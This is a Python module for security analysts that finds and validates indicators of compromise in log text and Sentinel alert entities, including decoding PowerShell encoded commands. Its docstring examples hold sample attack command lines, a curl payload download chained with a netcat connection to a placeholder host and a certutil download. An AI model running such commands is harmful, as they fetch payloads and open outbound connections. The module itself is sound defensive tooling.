"""Find and type indicators of compromise in text: command lines, messages, alert entities.

Types use msticpy's names so results line up with IoCExtract and TILookup:
"ipv4", "ipv6", "url", "dns" (a domain name), "md5_hash", "sha1_hash",
"sha256_hash". Every candidate is validated, not just pattern-matched: an IPv4
must parse, a domain must end in a public suffix (or a reserved test TLD such as
`.example`), a URL must have a host. Values come from attackers, so nothing
here evaluates or resolves them; the only decoding is of PowerShell's base64
`-EncodedCommand` text, which is read, never run.

Example:
    >>> df = extract_iocs("curl -o x http://malicious.example/payload.ps1 && nc 192.0.2.66 4444")
    >>> df["IocType"].tolist()
    ['url', 'dns', 'ipv4']
"""

from __future__ import annotations

import ipaddress
import json
import re
from collections.abc import Iterable
from functools import lru_cache
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

from nbcatalog.enrich.errors import EnrichmentError, shorten

if TYPE_CHECKING:
    import pandas as pd

IOC_TYPES = ("ipv4", "ipv6", "url", "dns", "md5_hash", "sha1_hash", "sha256_hash")

# Other spellings callers use, mapped to the msticpy name; "ip" and "hash" are
# resolved per value (v4/v6, by hash length).
TYPE_ALIASES = {
    "ip": "ip",
    "ipaddress": "ip",
    "ip_address": "ip",
    "domain": "dns",
    "hostname": "dns",
    "fqdn": "dns",
    "md5": "md5_hash",
    "sha1": "sha1_hash",
    "sha256": "sha256_hash",
    "hash": "hash",
    "file_hash": "hash",
    "filehash": "hash",
}

# The longest value treated as an indicator; longer text is not one (and is not sent anywhere).
MAX_IOC_LENGTH = 8192

# Reserved or internal top-level names that appear in real logs and in test data.
_SPECIAL_TLDS = frozenset({"example", "test", "invalid", "onion", "local", "internal"})
_HASH_LENGTHS = {32: "md5_hash", 40: "sha1_hash", 64: "sha256_hash"}

# A host may be a bracketed IPv6 literal; elsewhere brackets and quotes end a URL.
_URL_RE = re.compile(
    r"\b(?:https?|ftp)://(?:\[[0-9a-f:.]+\]|[^\s\"'<>\[\]{}|\\^`])[^\s\"'<>\[\]{}|\\^`]*",
    re.IGNORECASE,
)
_IPV4_RE = re.compile(r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?!\w|\.\d)")
_IPV6_RE = re.compile(r"(?<![\w:.])(?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4}(?![\w:.])", re.IGNORECASE)
_HASH_RE = re.compile(r"\b(?:[0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})\b", re.IGNORECASE)
_DOMAIN_RE = re.compile(
    r"(?<![\w.\-/\\])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9]"
    r"(?![\w\-]|\.[a-z0-9])",
    re.IGNORECASE,
)
_DOMAIN_FULL_RE = re.compile(
    r"(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9]\.?", re.IGNORECASE
)
_HEX_RE = re.compile(r"[0-9a-f]+", re.IGNORECASE)
_URL_TRAILING = ".,;:!?)'\""
# PowerShell's -EncodedCommand (any prefix PowerShell accepts: -e, -ec, -en, -enc, ...).
_ENCODED_ARG_RE = re.compile(r"(?:^|[\s\"'])[-/](e|ec|en[a-z]*)\s+([A-Za-z0-9+/]{8,}={0,2})", re.I)
_MAX_ENCODED = 1_000_000


def decode_powershell(text: str) -> list[str]:
    """The text of each PowerShell `-EncodedCommand` argument in a command line.

    Decoding base64 (UTF-16LE, as PowerShell expects) only reads the text: nothing
    is run. Arguments that are not valid base64 UTF-16 text are ignored.

    Example:
        >>> decode_powershell("powershell -enc ZQBjAGgAbwAgAGgAaQA=")
        ['echo hi']
    """
    import base64
    import binascii

    decoded = []
    for match in _ENCODED_ARG_RE.finditer(text):
        flag, payload = match.group(1).lower(), match.group(2)
        if flag not in ("e", "ec") and not "encodedcommand".startswith(flag):
            continue
        if len(payload) > _MAX_ENCODED:
            continue
        try:
            raw = base64.b64decode(payload + "=" * (-len(payload) % 4), validate=True)
            decoded.append(raw.decode("utf-16-le"))
        except (binascii.Error, UnicodeDecodeError, ValueError):
            continue
    return decoded


@lru_cache(maxsize=1)
def _suffix_extractor():
    import tldextract

    # The snapshot bundled with tldextract: no download of the public-suffix list.
    return tldextract.TLDExtract(suffix_list_urls=(), cache_dir=None)


def is_missing(value: Any) -> bool:
    """True for the empty values log columns hold: None, NaN, pandas NA/NaT, blank text.

    Example:
        >>> [is_missing(v) for v in (None, float("nan"), "  ", "8.8.8.8", 0)]
        [True, True, True, False, False]
    """
    if value is None:
        return True
    if isinstance(value, str):
        return not value.strip()
    try:
        return bool(value != value)  # NaN and NaT are not equal to themselves
    except TypeError:  # pandas.NA refuses to be a bool
        return True


def canonical_type(ioc_type: str) -> str:
    """The msticpy name for a type or alias ("domain" -> "dns"); "ip"/"hash" stay generic.

    Example:
        >>> canonical_type("SHA256"), canonical_type("domain")
        ('sha256_hash', 'dns')
    """
    if not isinstance(ioc_type, str):
        raise EnrichmentError(f"an IoC type must be text, got {shorten(ioc_type)}")
    key = ioc_type.strip().lower()
    if key in IOC_TYPES:
        return key
    if key in TYPE_ALIASES:
        return TYPE_ALIASES[key]
    accepted = ", ".join(IOC_TYPES + tuple(TYPE_ALIASES))
    raise EnrichmentError(f"unknown IoC type {shorten(ioc_type)}; accepted: {accepted}")


def is_domain(value: str) -> bool:
    """True for a syntactically valid domain ending in a known public suffix or test TLD.

    Example:
        >>> is_domain("malicious.example"), is_domain("powershell.exe"), is_domain("10.0.0.1")
        (True, False, False)
    """
    if not isinstance(value, str) or len(value) > 253 or not _DOMAIN_FULL_RE.fullmatch(value):
        return False
    name = value.rstrip(".").lower()
    if name.rsplit(".", 1)[-1] in _SPECIAL_TLDS:
        return True
    parts = _suffix_extractor()(name)
    return bool(parts.suffix and parts.domain)


def _url_host(url: str) -> str | None:
    try:
        host = urlsplit(url).hostname
    except ValueError:  # e.g. an invalid IPv6 literal in brackets
        return None
    return host or None


def _is_url(value: str) -> bool:
    if not _URL_RE.fullmatch(value):
        return False
    host = _url_host(value)
    if host is None:
        return False
    try:
        ipaddress.ip_address(host)
        return True
    except ValueError:
        return is_domain(host)


def infer_type(value: str) -> str | None:
    """The IoC type of a whole value, or None when it is none of `IOC_TYPES`.

    Example:
        >>> [infer_type(v) for v in ["8.8.8.8", "2001:db8::1", "evil.example", "x' or 1=1"]]
        ['ipv4', 'ipv6', 'dns', None]
    """
    if not isinstance(value, str):
        return None
    text = value.strip()
    if not text or len(text) > MAX_IOC_LENGTH:
        return None
    try:
        return f"ipv{ipaddress.ip_address(text).version}"
    except ValueError:
        pass
    if len(text) in _HASH_LENGTHS and _HEX_RE.fullmatch(text):
        return _HASH_LENGTHS[len(text)]
    if _is_url(text):
        return "url"
    if is_domain(text):
        return "dns"
    return None


def normalize_ioc(value: str, ioc_type: str | None = None) -> tuple[str, str]:
    """Check `value` is an indicator (of `ioc_type`, if given): (normalised value, type).

    IP addresses are written in their standard form, hashes and domains in lower
    case; URLs are kept as given. EnrichmentError (a ValueError) says what is wrong.

    Example:
        >>> normalize_ioc("2001:DB8:0::1")
        ('2001:db8::1', 'ipv6')
        >>> normalize_ioc("D41D8CD98F00B204E9800998ECF8427E", "hash")
        ('d41d8cd98f00b204e9800998ecf8427e', 'md5_hash')
    """
    if not isinstance(value, str):
        raise EnrichmentError(f"an IoC must be text, got {type(value).__name__} {shorten(value)}")
    text = value.strip()
    if len(text) > MAX_IOC_LENGTH:
        raise EnrichmentError(
            f"value of {len(text)} characters is too long to be an IoC (at most {MAX_IOC_LENGTH})"
        )
    found = infer_type(text)
    wanted = canonical_type(ioc_type) if ioc_type is not None else None
    if found is None:
        expected = f"a {wanted} value" if wanted else f"one of: {', '.join(IOC_TYPES)}"
        raise EnrichmentError(f"{shorten(text)} is not an IoC; expected {expected}")
    if wanted == "ip" and found in ("ipv4", "ipv6"):
        wanted = found
    if wanted == "hash" and found.endswith("_hash"):
        wanted = found
    if wanted is not None and wanted != found:
        raise EnrichmentError(
            f"{shorten(text)} is not a valid {wanted} value (it looks like {found})"
        )
    if found in ("ipv4", "ipv6"):
        text = str(ipaddress.ip_address(text))
    elif found != "url":
        text = text.lower().rstrip(".")
    return text, found


def _find_in_text(text: str, wanted: frozenset[str]) -> list[tuple[str, str]]:
    """(value, type) pairs in order of appearance, without repeats."""
    found: list[tuple[int, str, str]] = []
    url_spans: list[tuple[int, int]] = []
    for match in _URL_RE.finditer(text):
        url = match.group(0).rstrip(_URL_TRAILING)
        if not _is_url(url):
            continue
        url_spans.append((match.start(), match.start() + len(url)))
        if "url" in wanted:
            found.append((match.start(), url, "url"))
        host = _url_host(url)
        if "dns" in wanted and host and is_domain(host):
            found.append((match.start(), host.lower(), "dns"))

    def inside_url(pos: int) -> bool:
        return any(start <= pos < end for start, end in url_spans)

    if "ipv4" in wanted or "ipv6" in wanted:
        for regex in (_IPV4_RE, _IPV6_RE):
            for match in regex.finditer(text):
                try:
                    addr = ipaddress.ip_address(match.group(0))
                except ValueError:
                    continue
                kind = f"ipv{addr.version}"
                if kind in wanted and not addr.is_unspecified:
                    found.append((match.start(), str(addr), kind))
    if wanted & set(_HASH_LENGTHS.values()):
        for match in _HASH_RE.finditer(text):
            kind = _HASH_LENGTHS[len(match.group(0))]
            if kind in wanted and not inside_url(match.start()):
                found.append((match.start(), match.group(0).lower(), kind))
    if "dns" in wanted:
        for match in _DOMAIN_RE.finditer(text):
            if not inside_url(match.start()) and is_domain(match.group(0)):
                found.append((match.start(), match.group(0).lower(), "dns"))
    seen: set[tuple[str, str]] = set()
    ordered = []
    for _, value, kind in sorted(found, key=lambda item: item[0]):
        if (value, kind) not in seen:
            seen.add((value, kind))
            ordered.append((value, kind))
    return ordered


def _find_all(text: str, wanted: frozenset[str], decode: bool) -> list[tuple[str, str]]:
    found = _find_in_text(text, wanted)
    if decode:
        for plain in decode_powershell(text):
            found += [pair for pair in _find_in_text(plain, wanted) if pair not in found]
    return found


def _wanted_types(types: Iterable[str] | None) -> frozenset[str]:
    if types is None:
        return frozenset(IOC_TYPES)
    if isinstance(types, str):
        types = [types]
    wanted: set[str] = set()
    for name in types:
        kind = canonical_type(name)
        if kind == "ip":
            wanted |= {"ipv4", "ipv6"}
        elif kind == "hash":
            wanted |= set(_HASH_LENGTHS.values())
        else:
            wanted.add(kind)
    return frozenset(wanted)


def extract_iocs(
    text: str | Iterable[Any] | None,
    *,
    types: Iterable[str] | None = None,
    decode: bool = True,
) -> pd.DataFrame:
    """Every indicator in a text, or in each text of a list/Series: Ioc, IocType, SourceIndex.

    `SourceIndex` is the position (or Series index label) of the text an indicator
    came from, so results join back to the rows they were found in. Non-text items
    (None, NaN, numbers) are skipped. `types` limits the search (e.g. ["url", "ip"]).
    With `decode` (the default), PowerShell `-EncodedCommand` arguments are decoded
    and searched too, since attackers hide their URLs there.

    Example:
        >>> extract_iocs(["ping 8.8.8.8", None, "certutil -urlcache -f https://x.example/a"],
        ...              types=["ip", "url"]).values.tolist()
        [['8.8.8.8', 'ipv4', 0], ['https://x.example/a', 'url', 2]]
    """
    import pandas as pd

    wanted = _wanted_types(types)
    if text is None:
        items: Iterable[tuple[Any, Any]] = []
    elif isinstance(text, str):
        items = [(0, text)]
    elif isinstance(text, pd.Series):
        items = text.items()
    else:
        items = enumerate(text)
    rows = []
    for index, item in items:
        if isinstance(item, str):
            rows.extend((value, kind, index) for value, kind in _find_all(item, wanted, decode))
    return pd.DataFrame(rows, columns=["Ioc", "IocType", "SourceIndex"])


# Entity fields (Sentinel alert entities) that hold an indicator, by entity Type.
_ENTITY_FIELDS = {
    "ip": ("Address",),
    "url": ("Url",),
    "dns": ("DomainName",),
    "host": ("FQDN",),
    "filehash": ("Value",),
}
_SKIP_KEYS = frozenset({"$id", "$ref", "Type"})
# Text fields that are names, not addresses ("eicar.com" is a file, not a domain).
_SKIP_BY_TYPE = {"file": frozenset({"Name"}), "process": frozenset({"ProcessName"})}


def _walk_entities(
    node: Any, out: list[tuple[str, str, str | None]], wanted: frozenset[str], decode: bool
) -> None:
    if isinstance(node, list):
        for child in node:
            _walk_entities(child, out, wanted, decode)
        return
    if not isinstance(node, dict):
        return
    etype = node.get("Type") if isinstance(node.get("Type"), str) else None
    for field in _ENTITY_FIELDS.get((etype or "").lower(), ()):
        value = node.get(field)
        if isinstance(value, str):
            try:
                norm, kind = normalize_ioc(value)
            except ValueError:
                continue
            if kind in wanted:
                out.append((norm, kind, etype))
    skip = _SKIP_KEYS | _SKIP_BY_TYPE.get((etype or "").lower(), frozenset())
    for key, value in node.items():
        if key in skip:
            continue
        if isinstance(value, str):
            out.extend((v, k, etype) for v, k in _find_all(value, wanted, decode))
        elif isinstance(value, (dict, list)):
            _walk_entities(value, out, wanted, decode)


def extract_entity_iocs(
    entities: str | list | dict | None,
    *,
    types: Iterable[str] | None = None,
    decode: bool = True,
) -> pd.DataFrame:
    """Indicators in a Sentinel alert's Entities (JSON text or parsed): Ioc, IocType, EntityType.

    Typed entities give their field directly (ip.Address, url.Url, dns.DomainName,
    filehash.Value, host.FQDN); every other text value (command lines, file
    paths) is searched as text, PowerShell encoded commands decoded (see
    `extract_iocs`). Text that is not valid JSON is searched as text, so a
    truncated Entities column still yields what it holds.

    Example:
        >>> ents = ('[{"$id": "1", "Type": "ip", "Address": "203.0.113.77"},'
        ...         ' {"$id": "2", "Type": "host", "HostName": "WKSTN-042"}]')
        >>> extract_entity_iocs(ents).values.tolist()
        [['203.0.113.77', 'ipv4', 'ip']]
    """
    import pandas as pd

    wanted = _wanted_types(types)
    out: list[tuple[str, str, str | None]] = []
    parsed: Any = entities
    if isinstance(entities, str):
        try:
            parsed = json.loads(entities)
        except ValueError:
            out.extend((v, k, None) for v, k in _find_all(entities, wanted, decode))
            parsed = None
    if parsed is not None:
        _walk_entities(parsed, out, wanted, decode)
    seen: set[tuple[str, str]] = set()
    rows = []
    for value, kind, etype in out:
        if (value, kind) not in seen:
            seen.add((value, kind))
            rows.append((value, kind, etype))
    return pd.DataFrame(rows, columns=["Ioc", "IocType", "EntityType"])
